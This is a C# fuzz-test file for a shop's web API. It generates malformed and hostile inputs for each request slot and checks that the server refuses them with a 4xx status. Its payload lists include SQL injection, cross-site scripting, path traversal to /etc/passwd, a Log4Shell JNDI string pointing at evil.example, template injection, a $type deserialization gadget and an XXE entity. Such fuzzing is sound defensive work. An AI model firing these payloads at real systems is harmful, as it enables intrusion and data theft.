using System.Text;
using System.Text.Json;
using System.Text.Json.Nodes;

namespace Shop.EndToEnd.Tests.Fuzz;

/// <summary>One request of the fuzz run: method, path with its query, and a raw body (JSON text, possibly malformed).</summary>
public sealed record FuzzRequest(string Method, string PathAndQuery, string? Body, string ContentType, bool Anonymous, string Slot, string Value)
{
    public HttpRequestMessage ToHttpRequest()
    {
        var request = new HttpRequestMessage(new HttpMethod(Method), PathAndQuery.TrimStart('/'));
        if (Body is not null)
            request.Content = new StringContent(Body, Encoding.UTF8, ContentType);
        return request;
    }

    public string Describe() =>
        $"{Method} {Shorten(PathAndQuery)} [{Slot} = {Shorten(Escape(Value))}]{(Anonymous ? " anonymous" : "")}{(Body is null ? "" : $" body {Shorten(Escape(Body))}")}";

    static string Shorten(string text) => text.Length <= 160 ? text : $"{text[..150]}…({text.Length} chars)";

    static string Escape(string text) => JsonSerializer.Serialize(text)[1..^1];
}

/// <summary>
/// The requests for one operation. Each carries one value the operation must refuse ("poison") in one of its slots — a
/// path parameter, a query parameter, a body property (top level and one level down), the body as a whole — while the
/// other slots carry valid-looking values (existing ids, odd but legal text). A GET also gets odd-but-legal values
/// alone, since reading changes nothing.
/// </summary>
public static class FuzzPlan
{
    // Characters no Shop input may contain (refused by the shared input filter wherever they appear).
    static readonly string[] ControlStrings =
    [
        "\0", "abc\0def", "\u0001\u0002\u0003", "\u001b[31mred\u001b[0m", "tab\u0000", "\u007f", "next\u0085line", "\u009b6n", "a\u0000".PadRight(40, 'x'),
    ];

    // Escaped in JSON text: an unpaired surrogate cannot become UTF-8.
    static readonly string[] LoneSurrogatesJson = ["\\ud800", "abc\\udfffdef", "\\udc00\\ud800"];

    // Legal characters that trouble careless code: injections, bidi overrides, zero-width, combining marks, look-alikes, emoji.
    static readonly string[] OddStrings =
    [
        "Zoë 🛒 ∑", "' OR '1'='1' --", "\"; DROP TABLE users; --", "<script>alert(1)</script>", "../../../../etc/passwd", "${jndi:ldap://evil.example/a}",
        "\u202Egnp.exe", "zero\u200Bwidth", "e\u0301\u0301\u0301\u0301\u0301", "ＡＢＣ１２３", "admın", "ß İ ı ŉ ǅ", "𝕳𝖊𝖑𝖑𝖔", "%00%0d%0a", "{{7*7}}",
        "null", "undefined", "-1", "0", " ", "\uFEFFbom", "🏳️‍🌈👨‍👩‍👧‍👦", "שלום مرحبا", "\uFFFD\uFFFE", "%", "_", "\\", "a,b;c", "\t", "line\nbreak",
    ];

    static readonly string[] HugeNumbers =
        ["1e300", "-1e300", "99999999999999999999999999999999", "-99999999999999999999999999999999", "1.7976931348623157e309", "\"NaN\"", "\"1e400\""];

    static readonly string[] WrongTypes = ["{}", "[]", "true", "\"\"", "[[[[1]]]]", "{\"$type\":\"System.IO.FileInfo\"}"];

    public static IEnumerable<FuzzRequest> For(Operation operation, KnownIds known, Random random)
    {
        var requests = new List<FuzzRequest>();
        var pathParameters = operation.Parameters.Where(p => p.In == "path").ToList();
        var queryParameters = operation.Parameters.Where(p => p.In == "query").ToList();
        var readOnly = operation.Method == "GET";

        // The baseline: valid-looking values in every slot.
        Dictionary<string, string> BaselinePath() => pathParameters.ToDictionary(p => p.Name, p => PathValue(p, known, operation.Path));
        Dictionary<string, string> BaselineQuery() => queryParameters.ToDictionary(p => p.Name, p => QueryValue(p.Shape, random));
        JsonNode? BaselineBody() => operation.Body is null ? null : ValidLike(operation.Body, known, random, 0);

        FuzzRequest Build(string slot, string value, Dictionary<string, string> path, Dictionary<string, string> query, string? body,
            string contentType = "application/json", bool anonymous = false)
        {
            var target = operation.Path;
            foreach (var (name, v) in path)
                target = target.Replace($"{{{name}}}", v);
            var queryString = string.Join("&", query.Select(q => $"{Uri.EscapeDataString(q.Key)}={q.Value}"));
            return new FuzzRequest(operation.Method, queryString.Length == 0 ? target : $"{target}?{queryString}",
                body ?? (operation.Body is null ? null : "{}"), contentType, anonymous, slot, value);
        }

        // Path parameters: control characters (percent-encoded), junk where an id belongs.
        foreach (var parameter in pathParameters)
        {
            foreach (var poison in ControlStrings.Take(4).Append(new string('9', 500)).Append("💥").Append("..%2f..%2fadmin").Append("%ED%A0%80"))
            {
                var path = BaselinePath();
                path[parameter.Name] = poison.Contains('%') ? poison : Uri.EscapeDataString(poison);
                requests.Add(Build($"path {parameter.Name}", poison, path, BaselineQuery(), BaselineBody()?.ToJsonString()));
            }
        }

        // Query parameters: control characters always; overlong, huge and odd values where they cannot change anything.
        foreach (var parameter in queryParameters)
        {
            var poisons = ControlStrings.Take(5).Select(Uri.EscapeDataString).ToList();
            if (parameter.Shape.IsNumeric)
                poisons.AddRange(["99999999999999999999", "-99999999999999999999", "2147483648", "1e300", "NaN", "0x10"]);
            if (readOnly)
            {
                poisons.Add(new string('x', 3000));
                poisons.AddRange(OddStrings.OrderBy(_ => random.Next()).Take(8).Select(Uri.EscapeDataString));
                if (parameter.Shape.Format is "date-time")
                    poisons.AddRange(["9999-12-31T23:59:59Z", "0001-01-01T00:00:00Z", "2026-02-30"]);
                if (parameter.Shape.Format is "date-span" or "duration" || parameter.Name.Contains("older", StringComparison.OrdinalIgnoreCase))
                    poisons.AddRange(["10675199.02:48:05.4775807", "-10675199.02:48:05.4775808", "99999999.00:00:00"]);
                if (parameter.Shape.IsNumeric)
                    poisons.AddRange(["2147483647", "-2147483648", "0", "-1"]);
            }
            foreach (var poison in poisons)
            {
                var query = BaselineQuery();
                query[parameter.Name] = poison;
                requests.Add(Build($"query {parameter.Name}", Uri.UnescapeDataString(poison), BaselinePath(), query, BaselineBody()?.ToJsonString()));
            }
        }

        // Body properties, top level and one level down: each gets each poison its type admits, the rest stays valid-looking.
        if (operation.Body is { Properties: { } properties })
        {
            foreach (var (name, shape) in properties)
            {
                foreach (var poison in BodyPoisons(shape, random))
                    requests.Add(Build($"body {name}", poison, BaselinePath(), BaselineQuery(), WithProperty(BaselineBody(), [name], poison)));
                if (shape.Properties is { } nested)
                    foreach (var (inner, innerShape) in nested)
                        foreach (var poison in BodyPoisons(innerShape, random).Take(4))
                            requests.Add(Build($"body {name}.{inner}", poison, BaselinePath(), BaselineQuery(), WithProperty(BaselineBody(), [name, inner], poison)));
            }
        }

        // The body as a whole: malformed, too deep, a wrong type, the wrong media type.
        if (operation.Body is not null)
        {
            var body = BaselineBody()?.ToJsonString() ?? "{}";
            foreach (var raw in (string[])["{", "{\"a\":", "[1,2,", new string('[', 1000) + new string(']', 1000), "\"just a string\"", "12345", body[..^1] + ",}", "\u0000"])
                requests.Add(Build("body", raw, BaselinePath(), BaselineQuery(), raw));
            requests.Add(Build("content-type", "text/plain", BaselinePath(), BaselineQuery(), body, "text/plain"));
            requests.Add(Build("content-type", "application/xml", BaselinePath(), BaselineQuery(), "<a>&xxe;</a>", "application/xml"));
        }

        // An operation with nowhere to put a poison still meets one: an extra query parameter the filter refuses.
        if (requests.Count == 0)
            foreach (var poison in ControlStrings.Take(4))
                requests.Add(Build("query fuzz", poison, BaselinePath(), new Dictionary<string, string> { ["fuzz"] = Uri.EscapeDataString(poison) },
                    BaselineBody()?.ToJsonString()));

        // Once without a token, poison and all: the answer must be a 4xx too (401, 400 or 404), never a 5xx.
        if (requests.Count > 0)
        {
            var first = requests[random.Next(requests.Count)];
            requests.Add(first with { Anonymous = true });
        }
        return requests;
    }

    static IEnumerable<string> BodyPoisons(ValueShape shape, Random random)
    {
        var poisons = new List<string>();
        poisons.AddRange(ControlStrings.OrderBy(_ => random.Next()).Take(3).Select(s => JsonSerializer.Serialize(s)));
        poisons.Add($"\"{LoneSurrogatesJson[random.Next(LoneSurrogatesJson.Length)]}\"");
        switch (shape.Type)
        {
            case "integer":
            case "number":
                poisons.AddRange(HugeNumbers);
                poisons.Add("\"12abc\"");
                break;
            case "boolean":
                poisons.AddRange(["\"maybe\"", "2"]);
                break;
            case "array":
                poisons.AddRange(["\"not an array\"", "{}", "[" + string.Join(",", Enumerable.Repeat(JsonSerializer.Serialize("\0"), 3)) + "]"]);
                break;
            case "object":
                poisons.AddRange(["\"not an object\"", "[]", "42"]);
                break;
            default:
                // Overlong: beyond every field's limit, yet within the request body limit.
                poisons.Add(JsonSerializer.Serialize(new string('A', 200_000)));
                poisons.Add(JsonSerializer.Serialize(string.Concat(Enumerable.Repeat("💥", 20_000))));
                if (shape.Format is "uuid")
                    poisons.AddRange(["\"not-a-guid\"", "\"00000000-0000-0000-0000-00000000000g\""]);
                if (shape.Format is "date-time")
                    poisons.AddRange(["\"9999-99-99T99:99:99Z\"", "\"yesterday\""]);
                if (shape.Enum is { Count: > 0 })
                    poisons.Add(JsonSerializer.Serialize(shape.Enum[0] + "\u0000"));
                poisons.AddRange(WrongTypes.Take(3));
                break;
        }
        return poisons;
    }

    /// <summary>The baseline body with one property (top level or nested) replaced by raw JSON text.</summary>
    static string WithProperty(JsonNode? baseline, string[] path, string rawValue)
    {
        const string Marker = "__FUZZ_VALUE_MARKER__";
        var body = baseline as JsonObject ?? new JsonObject();
        var holder = body;
        foreach (var part in path[..^1])
        {
            if (holder[part] is not JsonObject child)
                holder[part] = child = new JsonObject();
            holder = child;
        }
        holder[path[^1]] = Marker;
        // Raw text, so that malformed values (lone surrogate escapes, numbers beyond any type) reach the server as written.
        return body.ToJsonString().Replace($"\"{Marker}\"", rawValue);
    }

    static string PathValue(Parameter parameter, KnownIds known, string path)
    {
        if (parameter.Shape.Format is "uuid" || parameter.Name.EndsWith("id", StringComparison.OrdinalIgnoreCase))
        {
            if (path.StartsWith("/api/products", StringComparison.Ordinal) || parameter.Name.Equals("productId", StringComparison.OrdinalIgnoreCase))
                return known.ProductId.ToString();
            if (path.StartsWith("/api/cart", StringComparison.Ordinal))
                return known.CartId.ToString();
            if (path.StartsWith("/api/users", StringComparison.Ordinal))
                return known.UserId.ToString();
            return Guid.NewGuid().ToString();
        }
        return parameter.Name switch
        {
            "name" => "OrderDetails",
            _ => "fuzz",
        };
    }

    static string QueryValue(ValueShape shape, Random random) => shape.Type switch
    {
        "integer" or "number" => "1",
        "boolean" => "false",
        _ when shape.Format is "uuid" => Guid.NewGuid().ToString(),
        _ when shape.Format is "date-time" => Uri.EscapeDataString(DateTimeOffset.UtcNow.ToString("O")),
        _ when shape.Enum is { Count: > 0 } => Uri.EscapeDataString(shape.Enum[random.Next(shape.Enum.Count)]),
        _ => Uri.EscapeDataString(OddStrings[random.Next(OddStrings.Length)]),
    };

    /// <summary>A value of the shape that would pass a first glance: existing ids, small numbers, odd but legal text.</summary>
    static JsonNode? ValidLike(ValueShape shape, KnownIds known, Random random, int depth) => shape.Type switch
    {
        "integer" => JsonValue.Create(1),
        "number" => JsonValue.Create(1.5m),
        "boolean" => JsonValue.Create(false),
        "array" when depth < 3 => new JsonArray(shape.Items is null ? null : ValidLike(shape.Items, known, random, depth + 1)),
        "array" => new JsonArray(),
        "object" when shape.Properties is { } properties && depth < 3 =>
            new JsonObject(properties.Select(p => KeyValuePair.Create(p.Key, ValidLike(p.Value, known, random, depth + 1)))),
        "object" => new JsonObject(),
        _ when shape.Format is "uuid" => JsonValue.Create(known.ProductId),
        _ when shape.Format is "date-time" => JsonValue.Create(DateTimeOffset.UtcNow),
        _ when shape.Enum is { Count: > 0 } => JsonValue.Create(shape.Enum[random.Next(shape.Enum.Count)]),
        _ => JsonValue.Create(OddStrings[random.Next(OddStrings.Length)]),
    };
}
